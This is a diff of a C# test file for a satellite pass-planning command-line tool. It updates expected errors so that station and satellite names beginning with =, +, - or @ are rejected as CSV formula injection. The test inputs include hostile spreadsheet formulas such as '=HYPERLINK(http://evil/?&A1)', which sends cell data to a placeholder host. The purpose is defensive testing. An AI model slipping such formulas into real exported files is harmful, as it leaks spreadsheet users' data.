@@ -50,7 +50,7 @@ public sealed class InputSafetyTests : IDisposable
             link: {"{"}model: gaussian-beam{"}"}
             protocol: {"{"}model: decoy-bb84{"}"}
             """);
-        CliRun.AssertOneLineUserError(CliRun.Run("precompute", scenario, "--out", Path.Combine(_dir, "inst")), "stations.csv:2: station name '@evil' is written into CSV, calendar and JSON files, so it must be non-empty");
+        CliRun.AssertOneLineUserError(CliRun.Run("precompute", scenario, "--out", Path.Combine(_dir, "inst")), "stations.csv:2: station name '@evil' must not start with =, +, - or @");
     }
 
     /// <summary>
@@ -64,14 +64,14 @@ public sealed class InputSafetyTests : IDisposable
         File.WriteAllText(stations, "name,latitude_deg,longitude_deg,altitude_m\nBeijing,39.9,116.4,45\n=HYPERLINK(http://evil/?&A1),31.2,121.5,5\n");
         CliRun.AssertOneLineUserError(CliRun.Run("passes", "--orbit", "altitude_km=500,inclination_deg=97.4", "--stations", stations,
             "--from", "2016-09-19T00:00:00Z", "--to", "2016-09-20T00:00:00Z", "--format", "csv"),
-            "passes-stations.csv:3: station name '=HYPERLINK(http://evil/?&A1)' is written into CSV, calendar and JSON files, so it must be non-empty");
+            "passes-stations.csv:3: station name '=HYPERLINK(http://evil/?&A1)' must not start with =, +, - or @ (a spreadsheet opening a CSV we write would run it as a formula)");
 
         var tle = Path.Combine(_dir, "evil.tle");
         var micius = File.ReadAllLines(Path.Combine(RepositoryPaths.Root(), "instances", "micius2016-china11", "micius-41731.tle"))
             .Where(l => l.StartsWith("1 ", StringComparison.Ordinal) || l.StartsWith("2 ", StringComparison.Ordinal)).Take(2).ToArray();
         File.WriteAllLines(tle, ["@SUM(1+1)", micius[0], micius[1]]);
         CliRun.AssertOneLineUserError(CliRun.Run("passes", "--tle", tle, "--stations", Path.Combine(RepositoryPaths.Root(), "instances", "micius2016-china11", "china11.csv"),
-            "--from", "2016-09-19T00:00:00Z", "--to", "2016-09-20T00:00:00Z", "--allow-old-elements"), "evil.tle:1: satellite name '@SUM(1+1)' must be non-empty");
+            "--from", "2016-09-19T00:00:00Z", "--to", "2016-09-20T00:00:00Z", "--allow-old-elements"), "evil.tle:1: satellite name '@SUM(1+1)' must not start with =, +, - or @");
 
         var dir = Instance("A");
         var yaml = Path.Combine(dir, InstanceFiles.InstanceFileName);
